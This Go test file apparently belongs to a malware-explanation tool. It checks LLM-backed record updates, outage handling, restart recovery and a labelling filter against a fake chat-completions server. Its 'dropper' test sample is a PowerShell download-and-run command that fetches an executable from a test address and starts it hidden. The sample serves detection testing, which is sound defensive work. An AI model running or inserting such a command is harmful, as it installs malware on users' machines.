package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

// llmReply is what the fake LLM answers to one request.
type llmReply struct {
	status  int // 0: 200
	content string
	delay   time.Duration
}

// llmRequest is one request the fake LLM received.
type llmRequest struct {
	kind        string // explain, map, label, judge (from the system prompt)
	temperature float64
}

// fakeLLM is an OpenAI-compatible chat-completions server whose answers
// the test can change while it runs.
type fakeLLM struct {
	srv      *httptest.Server
	mu       sync.Mutex
	answer   func(q llmRequest) llmReply
	requests []llmRequest
	answered atomic.Int64 // 200 answers sent
}

const fakeLLMModel = "fake-model"

func newFakeLLM(t *testing.T, answer func(q llmRequest) llmReply) *fakeLLM {
	t.Helper()
	f := &fakeLLM{answer: answer}
	f.srv = httptest.NewServer(http.HandlerFunc(f.serve))
	t.Cleanup(f.srv.Close)
	return f
}

func (f *fakeLLM) url() string { return f.srv.URL + "/v1" }

func (f *fakeLLM) set(answer func(q llmRequest) llmReply) {
	f.mu.Lock()
	f.answer = answer
	f.mu.Unlock()
}

// count returns the requests of a kind ("" for all).
func (f *fakeLLM) count(kind string) int {
	f.mu.Lock()
	defer f.mu.Unlock()
	n := 0
	for _, q := range f.requests {
		if kind == "" || q.kind == kind {
			n++
		}
	}
	return n
}

// temperatures returns the temperatures of the label requests.
func (f *fakeLLM) temperatures() map[float64]int {
	f.mu.Lock()
	defer f.mu.Unlock()
	out := map[float64]int{}
	for _, q := range f.requests {
		if q.kind == "label" {
			out[q.temperature]++
		}
	}
	return out
}

func (f *fakeLLM) serve(w http.ResponseWriter, req *http.Request) {
	var body struct {
		Model       string  `json:"model"`
		Temperature float64 `json:"temperature"`
		Messages    []struct {
			Role    string `json:"role"`
			Content string `json:"content"`
		} `json:"messages"`
	}
	if req.Method != http.MethodPost || req.URL.Path != "/v1/chat/completions" ||
		json.NewDecoder(req.Body).Decode(&body) != nil || body.Model != fakeLLMModel ||
		len(body.Messages) < 2 || body.Messages[0].Role != "system" {
		w.WriteHeader(http.StatusBadRequest)
		fmt.Fprint(w, `{"error":{"message":"bad request","type":"invalid_request_error"}}`)
		return
	}
	sys := body.Messages[0].Content
	q := llmRequest{kind: "explain", temperature: body.Temperature}
	switch {
	case strings.Contains(sys, "too long for one reading"):
		q.kind = "map"
	case strings.Contains(sys, "only the written explanation"):
		q.kind = "judge"
	case strings.Contains(sys, "decide whether the script is malicious or benign"):
		q.kind = "label"
	}
	f.mu.Lock()
	f.requests = append(f.requests, q)
	answer := f.answer
	f.mu.Unlock()
	rep := answer(q)
	if rep.delay > 0 {
		select {
		case <-time.After(rep.delay):
		case <-req.Context().Done():
			return
		}
	}
	w.Header().Set("Content-Type", "application/json")
	if rep.status != 0 && rep.status != http.StatusOK {
		w.WriteHeader(rep.status)
		fmt.Fprint(w, `{"error":{"message":"fake failure","type":"server_error"}}`)
		return
	}
	f.answered.Add(1)
	_ = json.NewEncoder(w).Encode(map[string]any{
		"id": "chatcmpl-1", "object": "chat.completion", "created": time.Now().Unix(), "model": fakeLLMModel,
		"choices": []any{map[string]any{"index": 0, "finish_reason": "stop",
			"message": map[string]any{"role": "assistant", "content": rep.content}}},
		"usage": map[string]any{"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
	})
}

// fakeSummary is the fake LLM's explanation summary.
const fakeSummary = "The script fetches a file from a test address and starts it hidden"

func fakeExplanation() string {
	b, _ := json.Marshal(map[string]any{"language": "powershell", "label": "malicious", "summary": fakeSummary,
		"behaviours": []any{}, "iocs": []any{}, "techniques": []any{}})
	return string(b)
}

func labelAnswer(label string) string { return `{"label":"` + label + `"}` }

// updLine is the part of an NDJSON line the LLM update tests read.
type updLine struct {
	Message string `json:"message"`
	Event   struct {
		ID     string `json:"id"`
		Action string `json:"action"`
	} `json:"event"`
	File struct {
		Name string `json:"name"`
	} `json:"file"`
	Automaldesc struct {
		Supersedes  string `json:"supersedes"`
		Explanation struct {
			Source string `json:"source"`
		} `json:"explanation"`
	} `json:"automaldesc"`
}

func readUpdLines(t *testing.T, path string) []updLine {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	if i := bytes.LastIndexByte(b, '\n'); i >= 0 {
		b = b[:i+1]
	} else {
		b = nil
	}
	var out []updLine
	sc := bufio.NewScanner(bytes.NewReader(b))
	sc.Buffer(make([]byte, 1<<20), 64<<20)
	for sc.Scan() {
		var l updLine
		if err := json.Unmarshal(sc.Bytes(), &l); err != nil {
			t.Fatalf("bad NDJSON line: %v\n%s", err, sc.Text())
		}
		out = append(out, l)
	}
	return out
}

// originalsAndUpdates splits NDJSON lines by distinct event id (delivery
// is at least once: a line may repeat).
func originalsAndUpdates(lines []updLine) (orig, upd map[string]updLine) {
	orig, upd = map[string]updLine{}, map[string]updLine{}
	for _, l := range lines {
		if l.Automaldesc.Supersedes != "" {
			upd[l.Event.ID] = l
		} else {
			orig[l.Event.ID] = l
		}
	}
	return orig, upd
}

func one(m map[string]updLine) updLine {
	for _, l := range m {
		return l
	}
	return updLine{}
}

// metricValue returns the value of one /metrics series ("" when absent).
func metricValue(t *testing.T, api, series string) string {
	t.Helper()
	resp, err := http.Get(api + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	for _, l := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(l, series+" "); ok {
			return v
		}
	}
	return ""
}

const dropper = "$w = New-Object Net.WebClient\n$w.DownloadFile('http://203.0.113.50/u.exe', \"$env:TEMP\\u.exe\")\nStart-Process \"$env:TEMP\\u.exe\" -WindowStyle Hidden\n"

func llmWatchEnv(t *testing.T, f *fakeLLM) watchEnv {
	return newWatchEnv(t, fmt.Sprintf("llm:\n  url: %q\n  model: %s\n  retries: 0\n  timeout: 20s\n", f.url(), fakeLLMModel))
}

func TestWatchLLMUpdates(t *testing.T) {
	t.Run("slow LLM: record first, update later", func(t *testing.T) {
		const think = 2 * time.Second
		f := newFakeLLM(t, func(llmRequest) llmReply { return llmReply{content: fakeExplanation(), delay: think} })
		e := llmWatchEnv(t, f)
		p := startWatch(t, e)
		write(t, e.quarantine, "drop.ps1", dropper)
		waitFor(t, 10*time.Second, "the original record", func() bool { return len(readUpdLines(t, e.ndjson)) >= 1 })
		if f.answered.Load() != 0 {
			t.Errorf("the record was delivered after the LLM answered; want it delivered at once")
		}
		waitFor(t, think+10*time.Second, "the update record", func() bool {
			_, upd := originalsAndUpdates(readUpdLines(t, e.ndjson))
			return len(upd) >= 1
		})
		orig, upd := originalsAndUpdates(readUpdLines(t, e.ndjson))
		if len(orig) != 1 || len(upd) != 1 {
			t.Fatalf("got %d originals and %d updates, want 1 and 1", len(orig), len(upd))
		}
		o, u := one(orig), one(upd)
		if o.Automaldesc.Explanation.Source == "" || strings.HasPrefix(o.Automaldesc.Explanation.Source, "llm:") {
			t.Errorf("original explanation source: got %q, want the offline explainer's", o.Automaldesc.Explanation.Source)
		}
		if u.Automaldesc.Supersedes != o.Event.ID || u.Event.Action != "update" || u.Event.ID == o.Event.ID ||
			u.Automaldesc.Explanation.Source != "llm:"+fakeLLMModel || !strings.Contains(u.Message, fakeSummary) {
			t.Errorf("update: got %+v, want supersedes %s, action update, source llm:%s and the LLM's summary", u, o.Event.ID, fakeLLMModel)
		}
		recs := apiRecords(t, p.api, "")
		if len(recs) != 2 {
			t.Errorf("API records: got %d, want the original and its update", len(recs))
		}
		if code, _ := p.stop(syscall.SIGTERM, 10*time.Second); code != 0 {
			t.Errorf("exit code %d, want 0", code)
		}
	})

	t.Run("LLM down: the original stands", func(t *testing.T) {
		f := newFakeLLM(t, func(llmRequest) llmReply { return llmReply{status: http.StatusInternalServerError} })
		e := llmWatchEnv(t, f)
		p := startWatch(t, e)
		write(t, e.quarantine, "drop.ps1", dropper)
		waitFor(t, 10*time.Second, "the original record", func() bool { return len(readUpdLines(t, e.ndjson)) >= 1 })
		waitFor(t, 15*time.Second, "the updater to give up", func() bool {
			return metricValue(t, p.api, `automaldesc_updates_total{outcome="failed"}`) == "1"
		})
		if got := f.count("explain"); got != 3 {
			t.Errorf("LLM requests: got %d, want 3 (bounded attempts, no retries configured)", got)
		}
		if lag := metricValue(t, p.api, "automaldesc_update_lag_records"); lag != "0" {
			t.Errorf("update lag: got %q, want 0 (the cursor moved past the record)", lag)
		}
		orig, upd := originalsAndUpdates(readUpdLines(t, e.ndjson))
		if len(orig) != 1 || len(upd) != 0 || len(apiRecords(t, p.api, "")) != 1 {
			t.Errorf("got %d originals and %d updates, want the original alone", len(orig), len(upd))
		}
		if code, _ := p.stop(syscall.SIGTERM, 10*time.Second); code != 0 {
			t.Errorf("exit code %d, want 0", code)
		}
	})

	t.Run("killed while the LLM thinks: one update after restart", func(t *testing.T) {
		f := newFakeLLM(t, func(llmRequest) llmReply { return llmReply{content: fakeExplanation(), delay: time.Minute} })
		e := llmWatchEnv(t, f)
		p := startWatch(t, e)
		write(t, e.quarantine, "drop.ps1", dropper)
		waitFor(t, 10*time.Second, "the original record", func() bool { return len(readUpdLines(t, e.ndjson)) >= 1 })
		waitFor(t, 10*time.Second, "the LLM request", func() bool { return f.count("explain") >= 1 })
		if err := p.cmd.Process.Kill(); err != nil {
			t.Fatal(err)
		}
		<-p.done
		f.set(func(llmRequest) llmReply { return llmReply{content: fakeExplanation()} })
		p = startWatch(t, e)
		waitFor(t, 15*time.Second, "the update after the restart", func() bool {
			_, upd := originalsAndUpdates(readUpdLines(t, e.ndjson))
			return len(upd) >= 1
		})
		if code, _ := p.stop(syscall.SIGTERM, 10*time.Second); code != 0 {
			t.Errorf("exit code %d, want 0", code)
		}
		calls := f.count("explain")
		p = startWatch(t, e)
		time.Sleep(1500 * time.Millisecond)
		orig, upd := originalsAndUpdates(readUpdLines(t, e.ndjson))
		if len(orig) != 1 || len(upd) != 1 || len(apiRecords(t, p.api, "")) != 2 {
			t.Errorf("got %d originals and %d updates, want 1 and 1", len(orig), len(upd))
		}
		if got := f.count("explain"); got != calls {
			t.Errorf("LLM requests after a clean restart: got %d more, want none (the cursor was stored)", got-calls)
		}
		if code, _ := p.stop(syscall.SIGTERM, 10*time.Second); code != 0 {
			t.Errorf("exit code %d, want 0", code)
		}
	})
}

// TestLearnLLMView: with llm.url, learn asks the LLM for its label at every
// --llm-temperatures value and uses it as the coherence judge; a sample the
// LLM disagrees on is rejected by the llm filter and not kept.
func TestLearnLLMView(t *testing.T) {
	f := newFakeLLM(t, func(q llmRequest) llmReply {
		switch {
		case q.kind == "judge":
			return llmReply{content: labelAnswer("malicious")}
		case q.kind == "label" && q.temperature > 0.75:
			return llmReply{content: labelAnswer("benign")} // disagrees at the last temperature
		case q.kind == "label":
			return llmReply{content: labelAnswer("malicious")}
		}
		return llmReply{content: fakeExplanation()}
	})
	dir := t.TempDir()
	pool := filepath.Join(dir, "pool")
	write(t, pool, "drop.ps1", dropper)
	write(t, pool, "drop2.ps1", strings.ReplaceAll(dropper, "203.0.113.50", "198.51.100.77"))
	out := filepath.Join(dir, "out")
	stdout, errOut, code := runIn(t, "learn", "--pool", pool, "--validation", "seeds", "--no-store", "--rounds", "1",
		"--threshold-start", "0.5", "--threshold-floor", "0.5", "--llm-url", f.url(), "--llm-model", fakeLLMModel,
		"--llm-temperatures", "0.4,0.6,0.8", "--out", out, "--created-at", "2025-06-01T00:00:00Z", "--log-level", "error")
	if code != 0 {
		t.Fatalf("got code %d, stdout %q, stderr %q", code, stdout, errOut)
	}
	var res struct {
		Rounds []struct {
			Languages []struct {
				Language string         `json:"language"`
				Rejected map[string]int `json:"rejected"`
				Kept     int            `json:"kept"`
			} `json:"languages"`
		} `json:"rounds"`
	}
	data, err := os.ReadFile(filepath.Join(out, "report.json"))
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(data, &res); err != nil || len(res.Rounds) != 1 {
		t.Fatalf("report.json: %v, %d rounds", err, len(res.Rounds))
	}
	langs := res.Rounds[0].Languages
	all := langs[len(langs)-1]
	if all.Rejected["llm"] != 2 {
		t.Errorf("rejected by the llm filter: got %d, want 2 (%v)", all.Rejected["llm"], all.Rejected)
	}
	if f.count("judge") < 2 {
		t.Errorf("judge requests: got %d, want one per candidate (the LLM is the coherence judge)", f.count("judge"))
	}
	if got, want := f.temperatures(), map[float64]int{0.4: 2, 0.6: 2, 0.8: 2}; fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("label requests by temperature: got %v, want %v", got, want)
	}
	if f.count("explain") != 0 {
		t.Errorf("explain requests: got %d, want 0 (learn explains offline)", f.count("explain"))
	}
}
